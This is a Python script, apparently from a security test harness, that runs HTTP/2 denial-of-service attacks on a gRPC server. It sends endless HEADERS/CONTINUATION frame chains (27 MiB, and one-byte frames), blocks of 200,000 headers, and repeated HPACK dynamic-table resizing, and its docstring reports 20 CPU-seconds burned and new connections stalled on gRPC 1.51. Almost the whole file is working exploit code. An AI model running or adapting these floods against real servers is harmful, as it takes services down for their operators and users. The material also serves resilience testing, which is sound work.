"""Headers without end: one of 27 MiB in CONTINUATION frames, before a first request and beside others; frames of one
byte; blocks of thousands of headers; a table that is filled, emptied and read again.

Before: 20 CPU-s for 27 MiB, as gRPC 1.51 keeps what it could not parse yet and begins again with every frame. Then
newcomers that waited for five seconds, as it did so on the thread that accepts connections.
"""

import hpack
import http2
from attack import Attack, Target, one_after_the_other, run

MEBIBYTE = 1 << 20


def in_frames(block: bytes, stream: int, size: int) -> bytes:
    """HEADERS, CONTINUATION, CONTINUATION, … without an end."""
    out = bytearray(http2.frame(http2.HEADERS, 0, stream, block[:size]))
    for at in range(size, len(block), size):
        out += http2.frame(http2.CONTINUATION, 0, stream, block[at : at + size])
    return bytes(out)


def one_header(size: int, frame_bytes: int, after_a_call: bool):
    def attack(target: Target) -> None:
        connection = target.connect()
        if after_a_call:
            connection.unary("GetServerInfo")
        block = http2.request_headers("Execute") + b"\0" + hpack.string("x-long") + hpack.integer(size, 7)
        stream = connection.next_stream()
        connection.send(in_frames(block, stream, frame_bytes))
        piece = bytes(min(frame_bytes, size))
        group = http2.frame(http2.CONTINUATION, 0, stream, piece) * max(1, (64 << 10) // len(piece))
        for _ in range(size // len(group) + 1):
            connection.send(group)

    return attack


def many_headers(target: Target) -> None:
    connection = target.connect()
    block = http2.request_headers("Execute") + hpack.literal("x", "y") * 200_000
    connection.send(
        in_frames(block, connection.next_stream(), 16384)
        + http2.frame(http2.CONTINUATION, http2.END_HEADERS, connection.next_stream() - 2)
    )


def table(target: Target) -> None:
    """3 KiB that the table keeps, named four thousand times a block; and its size changed up and down."""
    connection = target.connect()
    stream = connection.next_stream()
    connection.send(
        http2.frame(
            http2.HEADERS,
            http2.END_HEADERS | http2.END_STREAM,
            stream,
            http2.request_headers("NoSuch") + hpack.kept("x-kept", "v" * 3000),
        )
    )
    block = hpack.indexed(62) * 4000
    for _ in range(300):
        resized = hpack.integer(0, 5, 0x20) + hpack.integer(4096, 5, 0x20) + hpack.kept("x-kept", "v" * 3000)
        connection.send(
            http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, connection.next_stream(), resized + block)
        )


if __name__ == "__main__":
    run(
        Attack(
            [
                one_after_the_other(
                    one_header(27 * MEBIBYTE, 16384, False),
                    one_header(27 * MEBIBYTE, 16384, True),
                    one_header(MEBIBYTE, 1, False),
                    many_headers,
                    table,
                )
            ],
            spares=["backlog"],
        )
    )
